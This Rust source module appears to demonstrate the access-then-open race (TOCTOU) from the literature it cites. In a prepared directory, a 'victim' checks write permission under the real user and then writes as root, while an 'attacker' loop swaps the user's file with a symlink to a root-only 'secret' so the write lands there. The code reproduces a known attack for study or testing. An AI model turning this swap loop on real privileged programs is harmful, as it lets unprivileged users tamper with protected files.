//! The race between a check and a use (TxOS's paper, section 4.6; Borisov and others, "Fixing races for fun and profit"): a program with more rights than
//! its user asks whether the user may write to a file, and then writes to it; meanwhile the user puts a link to another file in its place.

use rustix::fs::{Access, CWD, Mode, OFlags, RenameFlags};
use std::fs;
use std::io::{self, Write};
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::path::Path;
use std::time::{Duration, Instant};

/// The word that asks this program for a part in it.
pub(crate) const WORD: &str = "--race";

/// The user, who owns nothing else.
const USER: u32 = 65_534;

/// An attacker that nobody ends does so by itself.
const PATIENCE: Duration = Duration::from_secs(3000);

/// `prepare DIR`, `victim DIR TIMES`, `attacker DIR`.
pub(crate) fn obey(words: &[String]) -> io::Result<()> {
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    match words[..] {
        ["prepare", directory] => prepare(Path::new(directory)),
        ["victim", directory, times] => victim(Path::new(directory), times.parse().map_err(io::Error::other)?),
        ["attacker", directory] => attack(Path::new(directory)),
        _ => Err(io::ErrorKind::InvalidInput.into()),
    }
}

/// `secret`, which is root's; `open/foo`, which is the user's, and beside it a link to the other.
fn prepare(directory: &Path) -> io::Result<()> {
    let open = directory.join("open");
    fs::create_dir_all(&open)?;
    fs::write(directory.join("secret"), "")?;
    fs::set_permissions(directory.join("secret"), PermissionsExt::from_mode(0o600))?;
    fs::write(open.join("foo"), "")?;
    fs::set_permissions(open.join("foo"), PermissionsExt::from_mode(0o666))?;
    symlink("../secret", open.join("link"))?;
    [open.join("foo"), open].iter().try_for_each(|path| chown(path, Some(USER), Some(USER)))
}

/// Exchanges the two until there is a file `stop`.
fn attack(directory: &Path) -> io::Result<()> {
    let (one, other, stop) = (directory.join("open/foo"), directory.join("open/link"), directory.join("stop"));
    let begun = Instant::now();
    while !stop.exists() && begun.elapsed() < PATIENCE {
        for _ in 0..1000 {
            rustix::fs::renameat_with(CWD, &one, CWD, &other, RenameFlags::EXCHANGE)?;
        }
    }
    Ok(())
}

/// Checks and uses. What it writes to the user's file nobody needs; what it writes to the secret is a win of the attacker's.
fn victim(directory: &Path, times: u32) -> io::Result<()> {
    let (user, root) = (rustix::fs::Uid::from_raw(USER), rustix::fs::Uid::ROOT);
    rustix::thread::set_thread_res_uid(Some(user), Some(root), Some(root))?;
    let path = directory.join("open/foo");
    for _ in 0..times {
        // By the rights of the real user, as access(2) does.
        if rustix::fs::access(&path, Access::WRITE_OK).is_err() {
            continue;
        }
        if let Ok(file) = rustix::fs::open(&path, OFlags::WRONLY | OFlags::APPEND | OFlags::CLOEXEC, Mode::empty()) {
            fs::File::from(file).write_all(b"x")?;
        }
    }
    Ok(())
}
